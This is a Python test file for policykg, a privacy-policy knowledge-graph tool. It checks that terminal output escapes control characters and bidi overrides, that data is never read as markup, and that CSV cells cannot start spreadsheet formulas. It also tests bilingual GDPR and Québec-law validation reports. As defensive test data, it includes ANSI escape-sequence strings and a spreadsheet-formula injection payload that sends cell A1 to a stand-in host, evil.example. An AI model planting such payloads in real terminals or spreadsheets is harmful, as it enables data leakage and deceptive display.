"""What policykg prints and writes is safe and faithful (kg.terminal, kg.render): control characters and
bidi overrides from data are shown, never obeyed; data is never read as rich markup; CSV cells never start
a spreadsheet formula. `hostile_card()` is the card the CLI tests (test_cli, test_validate, test_queries)
run through every command."""
from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import unicodedata
from pathlib import Path

import pyoxigraph as ox
import pytest
from rich.console import Console
from rich.table import Table

from kg import namespaces as ns
from kg.queries import QueryResult, parse_query
from kg.render import csv_rows, spreadsheet_cell, to_csv, to_table
from kg.terminal import error_text, printable, rich_text

from .conftest import FIXTURES

# OSC (window title), ED (clear screen), SGR (red), an 8-bit CSI, markup, bidi override and isolate
HOSTILE = "Evil \x1b]0;PWNED\x1b\\ clear\x1b[2J red\x1b[31m csi\x9b1m [/bold] bidi\u202e\u2066 end"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def raw_controls(text: str) -> list[str]:
    """The characters of `text` a terminal would obey: controls other than newline and tab, bidi overrides
    and isolates (checked with unicodedata, independently of kg.terminal)."""
    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in BIDI]


def hostile_card(folder: Path) -> Path:
    """A copy of tests/fixtures (card and snapshot) under `folder` whose title, process label, quotes
    (E01 and a new E07) and names hold HOSTILE, the controller's name a spreadsheet formula; the process has
    no legal basis, so validation reports a finding on it (with its label) and quotes E01."""
    shutil.copytree(FIXTURES / "policies", folder / "policies")
    shutil.copytree(FIXTURES / "sources", folder / "sources")
    snapshot = folder / "sources" / "example" / "2024-01-31.fr.txt"
    snapshot.write_text(snapshot.read_text(encoding="utf-8") + "\n" + HOSTILE + "\n", encoding="utf-8")
    card = folder / "policies" / "minimal.yaml"
    text = card.read_text(encoding="utf-8")
    q = json.dumps   # a JSON string is a YAML double-quoted scalar: "\u001b" is ESC
    text = re.sub(r"sha256: \w+", "sha256: " + hashlib.sha256(snapshot.read_bytes()).hexdigest(), text)
    text = text.replace("title: Politique de confidentialité — Example", f"title: {q('Title ' + HOSTILE)}")
    text = text.replace("label: {fr: Lettre d'information, en: Newsletter}",
                        f"label: {{fr: {q('Lettre ' + HOSTILE)}, en: {q('News ' + HOSTILE)}}}")
    text = text.replace('quote: "Dernière mise à jour : 31/01/2024"', f"quote: {q(HOSTILE)}")
    text = text.replace("dpv:hasName: Example SAS", f"dpv:hasName: {q(FORMULA)}")
    text = text[:text.index("      - id: E06")]   # no legal basis: a finding on the process
    text += (f"      - id: E07\n        quote: {q(HOSTILE)}\n        dpv:hasRecipient:\n"
             f"          id: evil-recipient\n          a: dpv:ThirdParty\n"
             f"          dpv:hasName: {q(FORMULA + ' ' + HOSTILE)}\n")
    card.write_text(text, encoding="utf-8")
    return card


# --- printable --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, shown", [
    ("\x1b]0;PWNED\x1b\\", "\\x1b]0;PWNED\\x1b\\"),
    ("a\x1b[2Jb\x1b[31m", "a\\x1b[2Jb\\x1b[31m"),
    ("csi\x9b1m nel\x85 del\x7f bell\x07 bs\x08 nul\x00", "csi\\x9b1m nel\\x85 del\\x7f bell\\x07 bs\\x08 nul\\x00"),
    ("line\nnext\r", "line\\nnext\\r"),
    ("tab\tkept", "tab\tkept"),
    ("\u202eabc\u202c \u2066x\u2069 \u202a\u202b\u202d\u2067\u2068", "\\u202eabc\\u202c \\u2066x\\u2069 "
                                                                    "\\u202a\\u202b\\u202d\\u2067\\u2068"),
    ("sep\u2028par\u2029", "sep\\u2028par\\u2029"),
    ("x\udcffy", "x\\xffy"),                       # a byte that was not UTF-8 (surrogateescape) is that byte
    ("Lettre d’information — é ✓ 中文 עברית", "Lettre d’information — é ✓ 中文 עברית"),
])
def test_printable_shows_controls_and_keeps_text(text, shown):
    assert printable(text) == shown
    assert not raw_controls(printable(text))


def test_printable_of_any_object_and_of_every_control():
    assert printable(Path("a\x1bb")) == "a\\x1bb"
    every = "".join(map(chr, range(0x00, 0xA0))) + "".join(sorted(BIDI))
    assert not raw_controls(printable(every)) and "\t" in printable(every)


def test_error_text_escapes_each_field_of_the_block():
    from kg.errors import Location, UnknownTermError
    exc = UnknownTermError("'dpv:X\x1b[31m' is not a term", Location("a\x1b.yaml", 3, 4), "fix\n  where: forged")
    lines = error_text(exc).splitlines()
    assert lines[0] == "error[PKG-E012 unknown-term]: 'dpv:X\\x1b[31m' is not a term"
    assert lines[1] == "  where: a\\x1b.yaml:3:4" and lines[2] == "  fix:   fix\\n  where: forged"
    assert len(lines) == 4   # the newline in the fix did not forge a line


def _shown(renderable) -> str:
    out = io.StringIO()
    Console(file=out, width=200, force_terminal=True, color_system=None).print(renderable)
    return out.getvalue()


def test_rich_text_is_never_markup():
    table = Table(title=rich_text("[bold]" + HOSTILE))
    table.add_column(rich_text("[/red]"))
    table.add_row(rich_text(HOSTILE + " :warning:"))
    shown = _shown(table)                          # a str cell "[/bold]" raises rich.errors.MarkupError
    assert "[/bold]" in shown and "[bold]" in shown and "[/red]" in shown and ":warning:" in shown
    assert not raw_controls(shown) and "\\x1b]0;PWNED" in shown


# --- query results ----------------------------------------------------------------------------------------

ECHO = """# title: Echo \x1b[2J [/bold]
# description: Gives back its values (a test fixture).
# columns: a b c
SELECT ?a ?b ?c WHERE { }
ORDER BY ?a
"""
INTEGER, DOUBLE = ox.NamedNode(ns.XSD + "integer"), ox.NamedNode(ns.XSD + "double")


def _result(*rows):
    return QueryResult(parse_query(Path("x.rq"), ECHO), ["a", "b", "c"], list(rows), ECHO)


def test_table_cells_and_title_are_text():
    shown = _shown(to_table(_result((ox.Literal(HOSTILE), ox.Literal("[/bold]", language="fr"), None))))
    assert not raw_controls(shown) and "[/bold]" in shown and "\\x1b[2J" in shown and "\\u202e" in shown


@pytest.mark.parametrize("text, term, written", [
    (FORMULA, None, "'" + FORMULA),
    ("+33 1 23 45 67 89", ox.Literal("+33 1 23 45 67 89"), "'+33 1 23 45 67 89"),
    ("-1", ox.Literal("-1"), "'-1"),                                        # a string, not a number
    ("-1", ox.Literal("-1", datatype=INTEGER), "-1"),                       # a number: left as it is
    ("+2.5E3", ox.Literal("+2.5E3", datatype=DOUBLE), "+2.5E3"),
    ("-INF", ox.Literal("-INF", datatype=DOUBLE), "'-INF"),                 # not a plain number
    ("=1+2", ox.Literal("=1+2", datatype=INTEGER), "'=1+2"),                # ill-typed: still text
    ("@SUM(A1:A9)", None, "'@SUM(A1:A9)"),
    ("\t=1", None, "'\t=1"), ("\r=1", None, "'\r=1"), ("\x00=1", None, "'\x00=1"),
    ("dpv:Marketing", None, "dpv:Marketing"), ("a=b", None, "a=b"), ("", None, ""), ("'=x", None, "'=x"),
])
def test_spreadsheet_cell(text, term, written):
    assert spreadsheet_cell(text, term) == written


def test_csv_cells_are_spreadsheet_safe_unless_raw():
    result = _result((ox.Literal(FORMULA), ox.Literal("-30", datatype=INTEGER), ox.Literal("+33 1 23")),
                     (ox.NamedNode(ns.DPV + "Marketing"), ox.Literal("@x", language="fr"), None))
    import csv
    for delimiter in (",", "\t"):
        rows = list(csv.reader(io.StringIO(to_csv(result, delimiter)), delimiter=delimiter))
        assert rows == [["a", "b", "c"], ["'" + FORMULA, "-30", "'+33 1 23"], ["dpv:Marketing", "'@x", ""]]
        raw = list(csv.reader(io.StringIO(to_csv(result, delimiter, raw=True)), delimiter=delimiter))
        assert raw == csv_rows(result)             # --raw-csv: the expected-result cells, as stored


def test_csv_cell_with_a_carriage_return_stays_one_cell():
    """Python's csv module quotes only the characters of the line terminator (LF here): a CR inside a cell
    was written bare, and every reader split the row there."""
    import csv
    result = _result((ox.Literal("a\rb"), ox.Literal("x"), None))
    for raw in (False, True):
        rows = list(csv.reader(io.StringIO(to_csv(result, raw=raw), newline="")))
        assert rows == [["a", "b", "c"], ["a\rb", "x", ""]]


def test_csv_written_row_by_row_gives_the_same_bytes():
    """`query -f csv` writes each row as it goes (a 450 MB endpoint answer: 1.9 GB RSS -> 651 MiB, measured
    by hand), with the same bytes as the text form."""
    import io

    import pyoxigraph as ox

    from kg.render import to_csv

    class Result:
        columns = ["a", "b"]
        rows = [(ox.Literal("=1+1"), ox.NamedNode("https://w3id.org/dpv#Marketing")),
                (ox.Literal("-1", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer")), None),
                (ox.Literal("a\rb"), ox.Literal("x", language="fr"))]
    for raw in (False, True):
        stream = io.StringIO()
        assert to_csv(Result(), raw=raw, stream=stream) is None
        assert stream.getvalue() == to_csv(Result(), raw=raw)
    assert to_csv(Result()).splitlines()[1].startswith("'=1+1,")


# --- validation reports: languages, citations, evidence, grouping -------------------------------------------

def _finding(**kw):
    from kg.validate.findings import Finding
    base = dict(policy="x@2024-01-01", profile="consistency", shape="consistency-x", severity="warning",
                message={"en": "Message.", "fr": "Message."}, fix={"en": "Do this.", "fr": "Faites ceci."},
                article="GDPR Art. 5(1)(a)", references=["legal-eu:law-GDPR"], focus="urn:x", focus_label={})
    base.update(kw)
    return Finding(**base)


def _report(findings, profiles):
    from rdflib import Graph
    from kg.validate import Report
    return Report("x@2024-01-01", [(p, {"en": "", "fr": ""}) for p in profiles], findings, Graph(), "pyshacl", 0.0)


def test_a_finding_cites_only_the_laws_the_run_applies():
    citations = [{"profile": "gdpr", "en": "GDPR Art. 7(3)", "fr": "RGPD, art. 7, § 3", "references": ["legal-eu:law-GDPR"]},
                 {"profile": "law25", "en": "Québec P-39.1 s. 8 para. 1 (4)", "fr": "RLRQ, c. P-39.1, art. 8, al. 1, 4°",
                  "references": ["pkx:law-CA-QC-P39.1"]}]
    quebec = _report([_finding(citations=list(citations))], ["core", "law25", "consistency"]).findings[0]
    assert quebec.article == "Québec P-39.1 s. 8 para. 1 (4)" and quebec.references == ["pkx:law-CA-QC-P39.1"]
    assert quebec.text("article", "fr") == "RLRQ, c. P-39.1, art. 8, al. 1, 4°"
    both = _report([_finding(citations=list(citations))], ["gdpr", "law25", "consistency"]).findings[0]
    assert both.text("article", "fr") == "RGPD, art. 7, § 3 ; RLRQ, c. P-39.1, art. 8, al. 1, 4°"
    # no law of the citations applies (a consistency run alone): the shape's own pks:article stays
    alone = _report([_finding(citations=list(citations))], ["core", "consistency"]).findings[0]
    assert alone.article == "GDPR Art. 5(1)(a)"
    from kg.report import finding_dict
    assert [c["profile"] for c in finding_dict(quebec, "fr")["citations"]] == ["law25"]


def test_text_report_speaks_french_and_keeps_the_card_hint_apart():
    from kg.report import render_text, render_json
    findings = [_finding(severity="warning", shape="gdpr-a", profile="gdpr", articles={"en": "GDPR Art. 13(1)(c)",
                                                                                       "fr": "RGPD, art. 13, § 1, c)"},
                         card_hint={"en": "dpv:hasLegalBasis on the process.", "fr": "dpv:hasLegalBasis sur le traitement."}),
                _finding(severity="warning", shape="gdpr-b", profile="gdpr"),
                _finding(severity="info", shape="gdpr-c", profile="gdpr")]
    text = render_text([_report(findings, ["gdpr"])], lang="fr")
    assert "non conforme" not in text and "conforme : 2 avertissements, 1 information" in text
    assert text.splitlines()[-1].endswith("3 constats dans 1 politique")
    assert "AVERTISSEMENT" in text and "WARNING" not in text
    assert "correction : Faites ceci." in text and "fiche : dpv:hasLegalBasis sur le traitement." in text
    assert "article : RGPD, art. 13, § 1, c)" in text and "citation : absente" in text
    english = render_text([_report(findings, ["gdpr"])], lang="en")
    assert "2 warnings, 1 info" in english and "card: dpv:hasLegalBasis on the process." in english
    assert "fix: Do this." in english and "hasLegalBasis" not in english.split("fix:")[1].split("\n")[0]
    doc = json.loads(render_json([_report(findings, ["gdpr"])], lang="fr"))
    first = doc["reports"][0]["findings"][0]
    assert first["card_hint"] == "dpv:hasLegalBasis sur le traitement." and first["fix"] == "Faites ceci."
    assert first["article"] == "RGPD, art. 13, § 1, c)"


_NOTICE_WITH_A_LOCATION = """
@prefix dpv: <https://w3id.org/dpv#> . @prefix pd: <https://w3id.org/dpv/pd#> . @prefix loc: <https://w3id.org/dpv/loc#> .
@prefix eu-gdpr: <https://w3id.org/dpv/legal/eu/gdpr#> . @prefix dct: <http://purl.org/dc/terms/> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> . @prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .
@prefix prov: <http://www.w3.org/ns/prov#> . @prefix oa: <http://www.w3.org/ns/oa#> .
@prefix ex: <https://w3id.org/policykg/policy/fixture/2024-01-01#> .
ex:notice a dpv:PrivacyNotice ; dct:identifier "fixture@2024-01-01" ; dct:modified "2024-01-01"^^xsd:date ;
    dpv:hasDataController ex:acme ; dpv:hasProcess ex:p1 ; dpv:hasJurisdiction loc:CA-QC ; dpv:hasRight eu-gdpr:A15 .
ex:acme a dpv:DataController ; dpv:hasName "ACME" .
ex:p1 a dpv:Process ; dpv:hasPurpose dpv:ServiceProvision ; dpv:hasPersonalData pd:EmailAddress ; dpv:hasLegalBasis eu-gdpr:A6-1-b .
ex:st-1 a rdf:Statement ; rdf:subject ex:notice ; rdf:predicate dpv:hasJurisdiction ; rdf:object loc:CA-QC ; prov:wasDerivedFrom ex:ev-1 .
ex:ev-1 a oa:Annotation ; oa:hasTarget ex:ev-1-target .
ex:ev-1-target oa:hasSelector ex:ev-1-quote .
ex:ev-1-quote a oa:TextQuoteSelector ; oa:exact "Laval, Québec, Canada" .
"""


def test_an_omission_is_one_finding_with_no_unrelated_quote(tmp_path, vocabulary):
    """The rights missing from a notice: one finding (not one per right), the rights named by their labels in
    the language of the message, and no quote (the notice's only statement, its jurisdiction, is another
    matter: PlanetHoster's «Laval, Québec, Canada»)."""
    from kg.load_rdf import load_rdf_policies
    from kg.validate import validate_graph
    ttl = tmp_path / "notice.ttl"
    ttl.write_text(_NOTICE_WITH_A_LOCATION, encoding="utf-8")
    g = load_rdf_policies(ttl, vocabulary=vocabulary)[0].graph
    report = validate_graph(g, "fixture@2024-01-01", vocabulary, profiles=["gdpr"], only_shapes=["gdpr-13-2-b-rights"],
                            applicability=False)
    rights = [f for f in report.findings if f.shape == "gdpr-13-2-b-rights"]
    assert len(rights) == 1 and rights[0].quote is None
    assert {v.rsplit(":", 1)[-1] for v in rights[0].values} == {"A16", "A17", "A18", "A20"}   # A20: the basis is a contract
    assert "droits que la politique ne mentionne pas : droit d'accès" not in rights[0].message["fr"] and "droit à l'effacement (art. 17 RGPD)" in rights[0].message["fr"] and "eu-gdpr:" not in rights[0].message["fr"]
    assert "right to erasure (GDPR Art. 17)" in rights[0].message["en"]
